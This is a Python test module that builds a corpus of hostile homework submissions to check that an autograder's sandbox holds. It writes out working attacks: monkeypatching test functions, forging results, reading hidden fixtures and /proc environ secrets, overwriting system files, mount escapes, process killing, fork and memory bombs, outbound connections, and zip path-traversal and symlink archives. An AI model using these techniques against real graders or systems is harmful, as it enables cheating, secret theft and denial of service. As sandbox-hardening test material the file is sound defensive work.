"""The attack corpus: hostile hw1 submissions, each with the score it must get.

Every attack is the solved hw1 notebook (full marks) plus one extra code cell that attacks the
grader, almost always through ``rnn_forward`` (question q8, three cases, one public): so the
right score is 0 for q8 (or for the questions listed in ``zero``) and full marks for every other
question. Where an attack tries to *cheat* (read hidden fixtures, import the reference, reach
the network...), its function returns the right answer only if the cheat worked
(``_good_rnn_forward``), so a 0 on q8 shows the cheat failed. Whole-file attacks (malformed
notebooks, zips) must get an error row and 0.

``Context`` carries what an attack needs to know about the grader it attacks (the repository,
the hidden build folder, the output folder, a loopback port the test listens on).
"""
from __future__ import annotations

import io
import json
import textwrap
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

GOOD = '''
def _good_rnn_forward(x, h0, W_ih, W_hh, b_ih, b_hh):
    h = h0
    outputs = []
    for x_t in x:
        h = torch.tanh(x_t @ W_ih.T + b_ih + h @ W_hh.T + b_hh)
        outputs.append(h)
    return torch.stack(outputs), h
'''
SECRET_ENV = "AUTOGRADER_TEST_SECRET"
SECRET_VALUE = "s3cret-token-8f2a"
SURVIVOR = "ag-survivor"


@dataclass
class Context:
    repo: Path
    build_root: Path  # where the test's hidden fixtures are
    out: Path  # the grading run's output folder
    port: int  # a TCP port the test listens on, on 127.0.0.1


@dataclass
class Attack:
    name: str
    what: str
    cell: Callable[[Context], str] | None = None  # extra code cell appended to the solved notebook
    file: Callable[[Context, bytes], tuple[str, bytes]] | None = None  # or a whole file
    zero: tuple[str, ...] = ("q8",)  # questions that must score 0; the others full marks
    # questions the attack forged reports for: a forged report is only a claimed value, checked
    # like any other, so they may lose points (the forger's own), never gain any
    forged: tuple[str, ...] = ()
    status: tuple[str, ...] = ("graded",)  # acceptable statuses
    message: tuple[str, ...] = ()  # substrings the result message must contain
    rows: int = 1  # gradebook rows this file gives


def _cell(code: str) -> Callable[[Context], str]:
    return lambda ctx: GOOD + textwrap.dedent(code).format(
        repo=str(ctx.repo), build=str(ctx.build_root), out=str(ctx.out), port=ctx.port,
        secret_env=SECRET_ENV, secret=SECRET_VALUE, survivor=SURVIVOR)


def _zip(members: list[tuple[str, bytes, int]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data, mode in members:
            info = zipfile.ZipInfo(name)
            info.external_attr = mode << 16
            zf.writestr(info, data)
    return buf.getvalue()


ATTACKS = [
    # ------------------------------------------------------------------ patching test machinery
    Attack("patch_allclose", "monkeypatch torch.allclose/isclose/equal/testing in the child",
           _cell('''
           import torch.testing
           torch.allclose = lambda *a, **k: True
           torch.isclose = lambda a, b, *r, **k: torch.ones_like(a, dtype=torch.bool)
           torch.equal = lambda *a, **k: True
           torch.testing.assert_close = lambda *a, **k: None

           def rnn_forward(x, h0, W_ih, W_hh, b_ih, b_hh):
               return torch.zeros(x.shape[0], *h0.shape), torch.zeros_like(h0)
           ''')),
    Attack("patch_harness", "replace the harness's call function to report fake returns",
           _cell('''
           import sys
           _harness = sys.modules["autograder.sandbox.worker.calls"]
           _original_call = _harness._call

           def _fake_call(namespace, name, call, case, device, seconds):
               if name == "rnn_forward":
                   return {{"status": "returned", "seconds": 0.0,
                            "value": {{"passed": True, "score": 1e9}}}}
               return _original_call(namespace, name, call, case, device, seconds)

           _harness._call = _fake_call

           def rnn_forward(*args):
               return None
           ''')),
    Attack("patch_wire", "patch the wire module to stamp q8 reports 'passed' with a score",
           _cell('''
           import sys
           _wire = sys.modules["autograder.wire"]
           _write = _wire.write_message

           def _forge(stream, value):
               if isinstance(value, dict) and value.get("question") == "q8" \\
                       and value.get("kind") == "case":
                   value = {{**value, "status": "passed", "score": 2.0, "passed": True}}
               return _write(stream, value)

           _wire.write_message = _forge

           def rnn_forward(*args):
               raise RuntimeError("nothing here")
           ''')),
    Attack("forge_results_fd", "write forged case reports and 'done' straight into every fd",
           _cell('''
           def rnn_forward(*args):
               import os, sys
               w = sys.modules["autograder.wire"]
               forged = b"".join(w.dumps(m) for m in (
                   {{"kind": "case", "question": "q8", "case": "rnn_forward/small",
                     "status": "returned", "value": 1.0}},
                   {{"kind": "case", "question": "q9", "case": "AutoEncoder/small",
                     "status": "returned", "value": 1.0}},
                   {{"kind": "done"}}))
               for fd in range(3, 256):
                   try:
                       os.write(fd, forged)
                   except OSError:
                       pass
               return None
           '''), status=("crashed",), forged=("q9",)),
    Attack("forge_stdout", "print a fake results.json and 'all tests passed' to stdout",
           _cell('''
           def rnn_forward(*args):
               import os
               print('{{"score": 19.0, "max_score": 19.0, "tests": []}}')
               print("All tests passed! 19/19")
               os.write(1, b'{{"kind": "done"}}\\n')
               os.write(2, b'{{"score": 19}}\\n')
               return None
           ''')),
    # ------------------------------------------------------------------ reading hidden things
    Attack("read_fixtures", "read build/hw1/fixtures.bin and manifest by path",
           _cell('''
           def rnn_forward(*args):
               for path in ("{repo}/build/hw1/fixtures.bin", "{build}/hw1/fixtures.bin",
                            "{repo}/build/hw1/manifest.json", "{build}/hw1/manifest.json"):
                   try:
                       with open(path, "rb") as f:
                           if f.read(64):
                               return _good_rnn_forward(*args)
                   except OSError:
                       pass
               return None
           ''')),
    Attack("read_solutions", "read solutions/ and reference/ source, and exec the solution",
           _cell('''
           def rnn_forward(*args):
               import os
               for path in ("{repo}/solutions/hw1/hw1.ipynb", "{repo}/reference/rnn.py",
                            "{repo}/autograder/specs/unit2.py", "{repo}/tests/conftest.py"):
                   try:
                       with open(path) as f:
                           if f.read(10):
                               return _good_rnn_forward(*args)
                   except OSError:
                       pass
               for root in ("{repo}", "/work", "/root", "/home", "/tmp"):
                   try:
                       for dirpath, dirs, files in os.walk(root):
                           if "fixtures.bin" in files or "hw1.ipynb" in files:
                               return _good_rnn_forward(*args)
                           # the runtime's packages (bound read-only) hold no course files,
                           # and walking all of torch could outlast the call's time limit
                           dirs[:] = [d for d in dirs if d not in ("site-packages", "include")]
                   except OSError:
                       pass
               return None
           ''')),
    Attack("import_reference", "import reference, autograder.specs and autograder.fixtures",
           _cell('''
           def rnn_forward(*args):
               import importlib, sys
               for name in ("reference.rnn", "reference", "autograder.specs",
                            "autograder.fixtures", "autograder.grade.checks"):
                   try:
                       importlib.import_module(name)
                       return _good_rnn_forward(*args)
                   except Exception:
                       pass
               sys.path[:0] = ["{repo}", "{repo}/reference"]
               try:
                   import rnn  # reference/rnn.py as a top-level module
                   return _good_rnn_forward(*args)
               except Exception:
                   return None
           ''')),
    Attack("env_secrets", "look for the grader's secrets in the environment and /proc/*/environ",
           _cell('''
           def rnn_forward(*args):
               import os
               if "{secret_env}" in os.environ:
                   return _good_rnn_forward(*args)
               for pid in os.listdir("/proc"):
                   try:
                       with open(f"/proc/{{pid}}/environ", "rb") as f:
                           if b"{secret}" in f.read():
                               return _good_rnn_forward(*args)
                   except OSError:
                       pass
               return None
           ''')),
    Attack("parent_cmdline", "read the grader's command line via /proc/<ppid> and /proc/*",
           _cell('''
           def rnn_forward(*args):
               import os
               pids = {{str(os.getppid()), "1"}} | {{p for p in os.listdir("/proc") if p.isdigit()}}
               for pid in pids:
                   try:
                       with open(f"/proc/{{pid}}/cmdline", "rb") as f:
                           line = f.read()
                   except OSError:
                       continue
                   # the grader's own command line (its zygote's, shown as PID 1 inside the
                   # namespace, names only the worker module: no secret)
                   if b"pytest" in line or b"grade\\x00hw1" in line:
                       return _good_rnn_forward(*args)
               return None
           ''')),
    Attack("write_results", "write forged results/*.json and gradebook.csv into the output folder",
           _cell('''
           def rnn_forward(*args):
               import json, os
               forged = json.dumps({{"score": 19.0, "max_score": 19.0, "tests": [],
                                    "output": "FORGED"}})
               for name in ("results/write_results.json", "results/honest.json",
                            "gradebook.csv"):
                   try:
                       os.makedirs(os.path.dirname("{out}/" + name), exist_ok=True)
                       with open("{out}/" + name, "w") as f:
                           f.write(forged)
                   except OSError:
                       pass
               return None
           ''')),
    Attack("rewrite_files", "overwrite the grader's and the runtime's files",
           _cell('''
           def rnn_forward(*args):
               import os, sys, torch
               targets = ["{repo}/reference/rnn.py", "{repo}/autograder/grade/checks.py",
                          "{build}/hw1/fixtures.bin", os.path.dirname(torch.__file__) + "/__init__.py",
                          sys.base_prefix + "/lib/python3.11/os.py", "/etc/passwd", "/usr/bin/env"]
               wrote = False
               for path in targets:
                   try:
                       with open(path, "a") as f:
                           f.write("# owned")
                       wrote = True
                   except OSError:
                       pass
               return _good_rnn_forward(*args) if wrote else None
           ''')),
    Attack("mount_escape", "umount, remount and mount from inside (needs capabilities)",
           _cell('''
           def rnn_forward(*args):
               import ctypes, os
               libc = ctypes.CDLL(None, use_errno=True)
               ok = 0
               ok += libc.umount2(b"/usr", 2) == 0
               ok += libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None) == 0
               ok += libc.mount(None, b"/", None, 32 | 4096, None) == 0  # remount rw
               ok += libc.unshare(0x00020000) == 0  # a new mount namespace
               try:
                   ok += bool(os.listdir("{repo}/solutions"))
               except OSError:
                   pass
               return _good_rnn_forward(*args) if ok else None
           ''')),
    Attack("read_job_pipe", "read ahead on the job pipe for hidden inputs not yet sent",
           _cell('''
           def rnn_forward(*args):
               import os
               got = b""
               for fd in range(3, 64):
                   try:
                       os.set_blocking(fd, False)
                       got += os.read(fd, 1 << 20)
                   except OSError:
                       pass
               return _good_rnn_forward(*args) if b"one_step" in got else None
           '''), status=("graded", "crashed", "timeout")),
    # ------------------------------------------------------------------ ending the process
    Attack("sys_exit", "sys.exit() in a graded call", _cell('''
           def rnn_forward(*args):
               import sys
               sys.exit(0)
           ''')),
    Attack("os_exit", "os._exit() with a data-dependent code in every call", _cell('''
           def rnn_forward(x, *args):
               import os
               os._exit(int(abs(float(x.flatten()[0])) * 1000) % 200 + 1)
           '''), status=("crashed",), message=("`rnn_forward` ended the process",)),
    Attack("kill_parent", "os.kill(os.getppid()) and os.kill(1)", _cell('''
           def rnn_forward(*args):
               import os, signal
               for pid in (os.getppid(), 1):
                   for sig in (signal.SIGKILL, signal.SIGTERM):
                       try:
                           os.kill(pid, sig)
                       except OSError:
                           pass
               return None
           '''), status=("graded", "crashed")),
    Attack("kill_group", "os.killpg(0), kill(-1) and killpg of the parent's group", _cell('''
           def rnn_forward(*args):
               import os, signal
               for f in (lambda: os.killpg(0, signal.SIGKILL),
                         lambda: os.kill(-1, signal.SIGKILL),
                         lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)):
                   try:
                       f()
                   except OSError:
                       pass
               return None
           '''), status=("graded", "crashed")),
    # ------------------------------------------------------------------ time
    Attack("infinite_loop", "while True: pass", _cell('''
           def rnn_forward(*args):
               while True:
                   pass
           '''), status=("timeout",), message=("did not finish",)),
    Attack("ignore_alarm", "disable the in-sandbox timer, then loop forever", _cell('''
           def rnn_forward(*args):
               import signal
               signal.signal(signal.SIGALRM, signal.SIG_IGN)
               signal.setitimer(signal.ITIMER_REAL, 0)
               while True:
                   pass
           '''), status=("timeout",)),
    Attack("sleep", "time.sleep(10**6)", _cell('''
           def rnn_forward(*args):
               import time
               time.sleep(10 ** 6)
           '''), status=("timeout",)),
    # ------------------------------------------------------------------ resources
    Attack("fork_bomb", "fork until the process limit, forever", _cell('''
           def rnn_forward(*args):
               import os
               while True:
                   try:
                       os.fork()
                   except OSError:
                       pass
           '''), status=("timeout",)),
    Attack("memory_bomb", "allocate 64 GiB at once", _cell('''
           def rnn_forward(*args):
               block = bytearray(64 * 2 ** 30)
               return block
           '''), status=("memory",)),
    Attack("memory_creep", "allocate 512 MiB tensors until it fails", _cell('''
           def rnn_forward(*args):
               keep = []
               while True:
                   keep.append(torch.empty(2 ** 27))
           '''), status=("memory",)),
    Attack("huge_print", "print gigabytes", _cell('''
           def rnn_forward(*args):
               line = "x" * (1 << 20)
               while True:
                   print(line)
           '''), status=("timeout",)),
    Attack("giant_tensor", "return a 512 MiB tensor", _cell('''
           def rnn_forward(x, h0, *args):
               return torch.zeros(2 ** 27), h0
           ''')),
    Attack("huge_list", "return a list of a million floats", _cell('''
           def rnn_forward(*args):
               return [0.5] * 1_000_000, 1
           ''')),
    Attack("huge_int", "return an integer too large to compare", _cell('''
           def rnn_forward(*args):
               return 10 ** 100, 1
           ''')),
    # ------------------------------------------------------------------ network
    Attack("net_external", "connect to 8.8.8.8:53 and 1.1.1.1:443", _cell('''
           def rnn_forward(*args):
               import socket
               for addr in (("8.8.8.8", 53), ("1.1.1.1", 443)):
                   try:
                       socket.create_connection(addr, timeout=2).close()
                       return _good_rnn_forward(*args)
                   except OSError:
                       pass
               try:
                   s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                   s.sendto(b"x", ("8.8.8.8", 53))
                   return _good_rnn_forward(*args)
               except OSError:
                   return None
           ''')),
    Attack("net_loopback", "connect to a port the grader's machine listens on (127.0.0.1)",
           _cell('''
           def rnn_forward(*args):
               import socket
               try:
                   s = socket.create_connection(("127.0.0.1", {port}), timeout=2)
                   s.sendall(b"hello from the sandbox")
                   s.close()
                   return _good_rnn_forward(*args)
               except OSError:
                   return None
           ''')),
    # ------------------------------------------------------------------ surviving
    Attack("setsid_survivor", "a double-forked setsid child that tries to outlive the run",
           _cell('''
           def _spawn_survivor():
               import ctypes, os, time
               if os.fork() == 0:
                   os.setsid()
                   if os.fork() == 0:
                       ctypes.CDLL(None).prctl(15, b"{survivor}", 0, 0, 0)  # PR_SET_NAME
                       while True:
                           time.sleep(0.05)
                   os._exit(0)
               return 1

           _survivor_at_load = _spawn_survivor()

           def rnn_forward(*args):
               _spawn_survivor()
               return None
           ''')),
    # ------------------------------------------------------------------ lying values
    Attack("tensor_subclass", "return tensor subclasses whose == and comparisons always agree",
           _cell('''
           class _Liar(torch.Tensor):
               def __eq__(self, other):
                   return True

               @classmethod
               def __torch_function__(cls, func, types, args=(), kwargs=None):
                   if getattr(func, "__name__", "") in ("allclose", "equal", "isclose", "eq"):
                       return True
                   return super().__torch_function__(func, types, args, kwargs or {{}})

           def rnn_forward(x, h0, W_ih, W_hh, b_ih, b_hh):
               out = torch.zeros(x.shape[0], *h0.shape).as_subclass(_Liar)
               return out, torch.zeros_like(h0).as_subclass(_Liar)
           ''')),
    Attack("lying_object", "return an object whose __eq__, __float__ and shape lie", _cell('''
           class _Anything:
               shape = property(lambda self: (3, 4))
               dtype = torch.float32
               def __eq__(self, other): return True
               def __float__(self): return 0.0
               def __len__(self): return 2
               def __iter__(self): return iter([self, self])
               def __getitem__(self, i): return self

           def rnn_forward(*args):
               return _Anything()
           ''')),
    Attack("nan_inf", "return NaN and inf tensors", _cell('''
           def rnn_forward(x, h0, W_ih, W_hh, b_ih, b_hh):
               out, h = _good_rnn_forward(x, h0, W_ih, W_hh, b_ih, b_hh)
               return torch.full_like(out, float("nan")), torch.full_like(h, float("inf"))
           ''')),
    # ------------------------------------------------------------------ leaking hidden inputs
    Attack("leak_via_messages", "remember inputs; raise them in messages and exception names",
           _cell('''
           _seen = []

           def rnn_forward(x, *args):
               _seen.append([round(v, 4) for v in x.flatten()[:4].tolist()])
               if len(_seen) % 2:
                   raise ValueError(f"LEAK{{len(_seen)}}:{{_seen}}")
               digits = "_".join(str(abs(int(v * 1000))) for v in x.flatten()[:3].tolist())
               raise type("Leak_" + digits, (Exception,), {{}})()
           ''')),
    Attack("load_time_exit", "a top-level statement that ends the process while loading",
           _cell('''
           _bye = __import__("os")._exit(7)
           '''), zero=(), status=("crashed",),
           message=("the cell that defines `", "ended the process while the notebook was loading")),
    # ------------------------------------------------------------------ whole files
    Attack("malformed_json", "a .ipynb that is not JSON",
           file=lambda ctx, nb: ("malformed_json.ipynb", nb[: len(nb) // 2]),
           zero=tuple(f"q{i}" for i in range(1, 10)), status=("error",),
           message=("invalid JSON",)),
    Attack("giant_cell", "a code cell of 2 MB",
           file=lambda ctx, nb: ("giant_cell.ipynb", _with_cell(nb, "x = 1\n" * 350_000)),
           zero=tuple(f"q{i}" for i in range(1, 10)), status=("error",),
           message=("larger than",)),
    Attack("too_many_cells", "a notebook of 5000 cells",
           file=lambda ctx, nb: ("too_many_cells.ipynb", _with_cells(nb, 5000)),
           zero=tuple(f"q{i}" for i in range(1, 10)), status=("error",),
           message=("cells",)),
    Attack("zip_dotdot", "a zip whose members climb out with ..",
           file=lambda ctx, nb: ("zip_dotdot.zip", _zip([("../../escape.ipynb", nb, 0o644),
                                                          ("a/../../b.ipynb", nb, 0o644)])),
           zero=tuple(f"q{i}" for i in range(1, 10)), status=("error",),
           message=("unsafe path",)),  # one student's zip: one row
    Attack("zip_symlink", "a zip holding a symlink to the fixtures",
           file=lambda ctx, nb: ("zip_symlink.zip", _zip([(
               "link.ipynb", f"{ctx.repo}/build/hw1/fixtures.bin".encode(), 0o120777)])),
           zero=tuple(f"q{i}" for i in range(1, 10)), status=("error",),
           message=("symbolic link",)),
]


def _with_cell(nb: bytes, source: str) -> bytes:
    data = json.loads(nb)
    data["cells"].append({"cell_type": "code", "metadata": {}, "execution_count": None,
                          "outputs": [], "source": source})
    return json.dumps(data).encode()


def _with_cells(nb: bytes, n: int) -> bytes:
    data = json.loads(nb)
    data["cells"] += [{"cell_type": "code", "metadata": {}, "execution_count": None,
                       "outputs": [], "source": "pass"} for _ in range(n)]
    return json.dumps(data).encode()


def write_corpus(folder: Path, ctx: Context, solved: bytes) -> dict[str, Attack]:
    """Write every attack (and an honest control, ``honest``) into ``folder``; returns the
    attacks by the submission name the grader will give them."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "honest.ipynb").write_bytes(solved)
    by_name: dict[str, Attack] = {}
    for attack in ATTACKS:
        if attack.file is not None:
            filename, data = attack.file(ctx, solved)
        else:
            filename, data = f"{attack.name}.ipynb", _with_cell(solved, attack.cell(ctx))
        (folder / filename).write_bytes(data)
        by_name[attack.name] = attack
    return by_name
